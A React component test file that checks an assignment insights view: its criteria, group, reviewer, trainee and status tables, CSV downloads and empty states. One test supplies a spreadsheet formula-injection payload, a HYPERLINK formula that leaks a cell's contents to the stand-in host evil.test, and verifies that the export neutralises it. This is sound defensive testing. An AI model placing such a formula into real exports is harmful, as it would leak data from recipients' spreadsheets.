/**
 * The assignment's Insights (decisions.md#insights-and-administration §1): the weakest criterion called out, the criteria, groups,
 * reviewers, trainees and status sections readable as tables (caption, headers) and downloadable
 * as CSV with the same figures, and the empty states (no rating scale, no reviews yet).
 */
import { screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { insightsText } from '../../../config/insights-text';
import { renderWithProviders } from '../../../test/render';
import { captureDownloads } from '../testing/csv-capture';
import {
  assignmentInsightsFixture,
  noScaleInsightsFixture,
  unreviewedInsightsFixture,
} from '../testing/fixtures';
import { AssignmentInsightsContent } from './assignment-insights';

afterEach(() => {
  vi.restoreAllMocks();
  vi.unstubAllGlobals();
});

const show = (insights = assignmentInsightsFixture) =>
  renderWithProviders(<AssignmentInsightsContent insights={insights} />);

/** The section titled `title`. */
const section = (title: string) => screen.getByRole('region', { name: title });

/** Switches a section to its table and answers the table's rows as cell texts. */
async function tableOf(title: string): Promise<string[][]> {
  const region = section(title);
  await userEvent.click(within(region).getByRole('radio', { name: insightsText.table }));
  const table = within(region).getByRole('table');
  return within(table)
    .getAllByRole('row')
    .map((row) => [...row.querySelectorAll('th, td')].map((cell) => cell.textContent ?? ''));
}

describe('AssignmentInsightsContent', () => {
  it('calls out the weakest and strongest criterion with their means', () => {
    show();
    const weakest = screen.getByText(insightsText.weakestCriterion).closest('[data-figure]')!;
    expect(weakest).toHaveTextContent('Clarity');
    expect(weakest).toHaveTextContent(insightsText.meanOf('2.25', 4));
    const strongest = screen.getByText(insightsText.strongestCriterion).closest('[data-figure]')!;
    expect(strongest).toHaveTextContent('Empathy');
    expect(
      screen.getByText(insightsText.reviewedAnswers).closest('[data-figure]'),
    ).toHaveTextContent('4');
  });

  it('shows the criteria as a table with a caption, column and row headers', async () => {
    show();
    const rows = await tableOf(insightsText.criteriaTitle);
    expect(rows[0]).toEqual([
      insightsText.criterion,
      insightsText.mean,
      insightsText.count,
      ...[1, 2, 3, 4, 5].map(insightsText.starsHeader),
    ]);
    expect(rows.slice(1)).toEqual([
      ['Clarity', '2.25', '4', '1', '2', '0', '1', '0'],
      ['Empathy', '4.50', '4', '0', '0', '0', '2', '2'],
      ['Closing', '3.67', '3', '0', '0', '1', '2', '0'],
    ]);
    const table = within(section(insightsText.criteriaTitle)).getByRole('table', {
      name: insightsText.criteriaCaption,
    });
    expect(within(table).getByRole('rowheader', { name: 'Clarity' })).toBeInTheDocument();
  });

  it('downloads the criteria as assignment-12-criteria.csv with the table figures', async () => {
    const files = captureDownloads();
    show();
    await userEvent.click(
      screen.getByRole('button', {
        name: insightsText.downloadCsvLabel(insightsText.criteriaTitle),
      }),
    );
    expect(files.map((f) => f.name)).toEqual(['assignment-12-criteria.csv']);
    const text = await files[0]!.text();
    expect(text.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
      'Criterion,Mean,Ratings,1 star,2 stars,3 stars,4 stars,5 stars',
      'Clarity,2.25,4,1,2,0,1,0',
      'Empathy,4.50,4,0,0,0,2,2',
      'Closing,3.67,3,0,0,1,2,0',
    ]);
  });

  it('breaks the criteria down per group and per reviewer (an erased reviewer is Deleted user)', async () => {
    show();
    const groups = await tableOf(insightsText.groupsTitle);
    expect(groups[1]).toEqual(['Cohort A', '3', 'Clarity', '2.33', '3', '1', '1', '0', '1', '0']);
    expect(groups).toHaveLength(4);
    const reviewers = await tableOf(insightsText.reviewersTitle);
    expect(reviewers.map((r) => r.slice(0, 5))).toEqual([
      [
        insightsText.reviewer,
        insightsText.reviews,
        insightsText.criterion,
        insightsText.mean,
        insightsText.count,
      ],
      ['Mia Manager', '3', 'Clarity', '2.00', '3'],
      ['Mia Manager', '3', 'Empathy', '—', '0'],
      ['Mia Manager', '3', 'Closing', '—', '0'],
      [insightsText.deletedUser, '1', 'Clarity', '4.00', '1'],
      [insightsText.deletedUser, '1', 'Empathy', '—', '0'],
      [insightsText.deletedUser, '1', 'Closing', '—', '0'],
    ]);
  });

  it('lists the trainees best score first with their stars, and exports them', async () => {
    const files = captureDownloads();
    show();
    const region = section(insightsText.traineesTitle);
    // A table only: no chart to switch from.
    expect(within(region).queryByRole('radio')).not.toBeInTheDocument();
    const rows = within(within(region).getByRole('table')).getAllByRole('row');
    expect(rows.map((r) => r.textContent)).toEqual([
      expect.stringContaining(insightsText.trainee),
      'Ana Álvarezana@demo.test4.334542026-11-20',
      'Ben Bakerben@demo.test2.5014—2026-11-21',
    ]);
    await userEvent.click(
      within(region).getByRole('button', {
        name: insightsText.downloadCsvLabel(insightsText.traineesTitle),
      }),
    );
    expect(files[0]!.name).toBe('assignment-12-trainees.csv');
    expect((await files[0]!.text()).split('\r\n').slice(1)).toEqual([
      'Ana Álvarez,ana@demo.test,4.33,4,5,4,2026-11-20',
      'Ben Baker,ben@demo.test,2.50,1,4,—,2026-11-21',
    ]);
  });

  it("exports a trainee's name and a criterion that a spreadsheet would run as formulas as plain text", async () => {
    const files = captureDownloads();
    const hostile = '=HYPERLINK("http://evil.test/?leak="&B2,"Open")';
    const [ana, ben] = assignmentInsightsFixture.trainees;
    show({
      ...assignmentInsightsFixture,
      criteria: assignmentInsightsFixture.criteria.map((c, i) =>
        i === 2 ? { ...c, text: '@SUM(A1:A9)' } : c,
      ),
      trainees: [{ ...ana!, user: { ...ana!.user, firstName: hostile, lastName: '' } }, ben!],
    });
    await userEvent.click(
      screen.getByRole('button', {
        name: insightsText.downloadCsvLabel(insightsText.traineesTitle),
      }),
    );
    const text = (await files[0]!.text()).replace(/^\uFEFF/, '');
    const [header, first] = Papa.parse<string[]>(text, { newline: '\r\n' }).data;
    expect(header![5]).toBe("'@SUM(A1:A9)");
    expect(first![0]).toBe(`'${hostile}`);
    // The figures stay as they were.
    expect(first!.slice(1)).toEqual(['ana@demo.test', '4.33', '4', '5', '4', '2026-11-20']);
  });

  it('shows the answers per status over time as a table', async () => {
    show();
    const rows = await tableOf(insightsText.statusTitle);
    expect(rows).toEqual([
      [insightsText.date, insightsText.pending, insightsText.toReview, insightsText.reviewed],
      ['2026-11-19', '7', '0', '0'],
      ['2026-11-20', '3', '2', '2'],
      ['2026-11-21', '2', '1', '4'],
    ]);
    expect(
      within(section(insightsText.statusTitle)).getByRole('table', {
        name: insightsText.statusCaption('day'),
      }),
    ).toBeInTheDocument();
  });

  it('says there is no rating scale, and still shows the answers over time', () => {
    show(noScaleInsightsFixture);
    expect(screen.getByText(insightsText.noScale)).toBeInTheDocument();
    expect(screen.queryByRole('region', { name: insightsText.criteriaTitle })).toBeNull();
    expect(section(insightsText.statusTitle)).toBeInTheDocument();
    expect(
      screen.getByText(insightsText.weakestCriterion).closest('[data-figure]'),
    ).toHaveTextContent(insightsText.none);
  });

  it('says there are no reviews yet, with nothing to download', () => {
    show(unreviewedInsightsFixture);
    for (const title of [
      insightsText.criteriaTitle,
      insightsText.groupsTitle,
      insightsText.reviewersTitle,
      insightsText.traineesTitle,
    ]) {
      const region = section(title);
      expect(within(region).getByText(insightsText.noReviews)).toBeInTheDocument();
      expect(within(region).queryByRole('button', { name: /CSV/ })).toBeNull();
    }
  });
});
